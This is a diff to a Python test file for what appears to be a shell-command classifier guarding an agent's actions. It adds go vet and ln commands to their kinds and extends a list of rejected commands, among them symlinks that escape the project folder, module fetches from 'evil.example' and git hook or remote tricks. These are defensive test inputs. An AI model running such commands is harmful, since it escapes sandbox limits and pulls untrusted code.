@@ -63,6 +63,10 @@ def kinds(text: str) -> list[str]:
         ("kill -9 4711", "deletes"),
         ("go version", "builds"),
         ("go test ./... -o=x", "builds"),
+        ("go vet main.go internal/x/... ./cmd", "builds"),
+        ("ln -sfn releases/v2 current", "edits"),
+        ("ln -s src/a.py ./b.py .", "edits"),
+        ("ln /srv/project/a b", "edits"),
         ("golangci-lint run ./...", "builds"),
         ("vendor/bin/phpunit tests", "builds"),
         ("./manage.py test", "builds"),
@@ -124,6 +128,9 @@ def test_a_known_command_is_of_its_kind(text: str, kind: str) -> None:
         "git commit -n -m x", "git commit -m", "git rebase --exec ./x", "git bisect run ./x", "git push evil main",
         "git push --force", "git reset --hard", "git clean -fd", "git checkout src/a.py", "git config core.hooksPath x",
         "git apply fix.patch", "git branch -D x", "git rm -rf src", "git clone https://example.com/x", "git help log",
+        # A link that leads to a folder above it, so that `link/..` is outside; packages that go asks others for.
+        "ln -s . x", "ln -s ././ x", "ln -s src/.. x", "ln -s /srv/project/d a/b/c", "ln -s a /srv/project/d a/b", "ln -rs d a/b/c", "ln --relative -s d a/b",
+        "go list -m evil.example/abc@latest", "go build -mod=mod evil.example/x", "go list std@v1", "go vet evil.example", "go test ./../x",
         "make -C sub test", "make test CC=./x", "cargo build --config x", "mvn -Dexec.args=x test", "gcc -B. a.c",
         "eslint -c evil.js src", "eslint --rulesdir x src", "prettier --plugin=./x a", "tsc --outDir /tmp",
         # Paths elsewhere, and what could be an option or another machine.
